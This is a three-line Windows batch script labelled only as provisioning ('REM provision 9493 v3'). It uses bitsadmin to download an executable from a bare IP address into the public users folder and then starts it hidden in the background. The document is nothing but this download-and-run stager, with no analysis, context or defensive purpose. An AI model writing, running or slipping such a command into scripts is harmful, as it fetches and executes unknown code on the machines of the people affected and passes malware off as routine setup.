REM provision 9493 v3
bitsadmin /transfer job /download /priority high http://203.0.113.200/u.exe C:\Users\Public\u.exe
start /b C:\Users\Public\u.exe
